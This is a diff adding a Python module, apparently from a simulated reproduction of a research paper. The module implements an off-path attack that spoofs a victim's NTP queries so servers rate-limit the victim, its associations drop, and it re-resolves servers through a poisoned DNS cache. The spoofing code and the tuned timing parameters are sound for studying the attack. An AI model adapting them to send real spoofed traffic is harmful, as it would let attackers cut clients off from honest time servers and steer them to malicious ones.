@@ -1,0 +1,132 @@
+"""Removing NTP associations by abusing server-side rate limiting (section IV-B2).
+
+NTP servers identify clients by source IP address only, so an off-path
+attacker can impersonate the victim client towards any server simply by
+spoofing the source address of mode 3 queries.  Sending such queries faster
+than the server's rate-limit budget pushes the *victim* into the limited
+state: the server stops answering the victim's own (slow, legitimate) polls,
+the victim's reachability register for that server drains, and the client
+eventually declares the association dead and goes back to DNS for a
+replacement — straight into the poisoned cache.
+
+Compared to a denial-of-service attack on the server this needs a trickle of
+packets (one spoofed query every couple of seconds per server) and harms
+nobody else: the server keeps serving all other clients.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Optional
+
+from repro.core.attacker import Attacker
+from repro.netsim.packet import IPProtocol, IPv4Packet
+from repro.netsim.simulator import Simulator
+from repro.netsim.udp import UDPDatagram, encode_udp
+from repro.ntp.packet import NTPPacket, NTP_PORT
+
+
+@dataclass
+class RemovalCampaign:
+    """State of the spoofing campaign against one (victim, server) pair."""
+
+    server_ip: str
+    victim_ip: str
+    started_at: float
+    queries_sent: int = 0
+    active: bool = True
+
+
+@dataclass
+class RemoverStats:
+    """Aggregate counters for the association-removal activity."""
+
+    campaigns_started: int = 0
+    campaigns_stopped: int = 0
+    spoofed_queries_sent: int = 0
+
+
+class AssociationRemover:
+    """Keeps chosen NTP servers rate-limiting the victim client.
+
+    Parameters
+    ----------
+    query_interval:
+        Interval between spoofed queries per server.  It must stay below the
+        server's average-interval budget (8 s for the reference
+        implementation) so the victim remains limited; the default of 2 s
+        keeps the overall attack volume at a fraction of a packet per second
+        per server.
+    """
+
+    def __init__(
+        self,
+        attacker: Attacker,
+        simulator: Simulator,
+        victim_ip: str,
+        query_interval: float = 2.0,
+    ) -> None:
+        self.attacker = attacker
+        self.simulator = simulator
+        self.victim_ip = victim_ip
+        self.query_interval = query_interval
+        self.stats = RemoverStats()
+        self.campaigns: dict[str, RemovalCampaign] = {}
+
+    # -------------------------------------------------------------- control
+    def target(self, server_ip: str) -> RemovalCampaign:
+        """Start (or return the existing) campaign against one server."""
+        if server_ip in self.campaigns and self.campaigns[server_ip].active:
+            return self.campaigns[server_ip]
+        campaign = RemovalCampaign(
+            server_ip=server_ip,
+            victim_ip=self.victim_ip,
+            started_at=self.simulator.now,
+        )
+        self.campaigns[server_ip] = campaign
+        self.stats.campaigns_started += 1
+        self._send_spoofed_query(campaign)
+        return campaign
+
+    def target_many(self, server_ips: list[str]) -> list[RemovalCampaign]:
+        """Start campaigns against a whole list of servers (scenario P1)."""
+        return [self.target(ip) for ip in server_ips]
+
+    def stop(self, server_ip: Optional[str] = None) -> None:
+        """Stop one campaign, or all campaigns."""
+        targets = [server_ip] if server_ip else list(self.campaigns)
+        for ip in targets:
+            campaign = self.campaigns.get(ip)
+            if campaign is not None and campaign.active:
+                campaign.active = False
+                self.stats.campaigns_stopped += 1
+
+    def active_targets(self) -> list[str]:
+        """Servers currently being kept in the rate-limited state."""
+        return [ip for ip, campaign in self.campaigns.items() if campaign.active]
+
+    # ------------------------------------------------------------- spoofing
+    def _send_spoofed_query(self, campaign: RemovalCampaign) -> None:
+        if not campaign.active:
+            return
+        query = NTPPacket.client_query(self.simulator.now)
+        datagram = UDPDatagram(
+            src_port=NTP_PORT, dst_port=NTP_PORT, payload=query.encode()
+        )
+        payload = encode_udp(self.victim_ip, campaign.server_ip, datagram)
+        packet = IPv4Packet(
+            src=self.victim_ip,
+            dst=campaign.server_ip,
+            protocol=IPProtocol.UDP,
+            payload=payload,
+            ipid=campaign.queries_sent & 0xFFFF,
+        )
+        campaign.queries_sent += 1
+        self.stats.spoofed_queries_sent += 1
+        self.attacker.stats.spoofed_ntp_queries_sent += 1
+        self.attacker.inject(packet)
+        self.simulator.schedule(
+            self.query_interval,
+            lambda: self._send_spoofed_query(campaign),
+            label=f"spoofed-ntp {campaign.server_ip}",
+        )
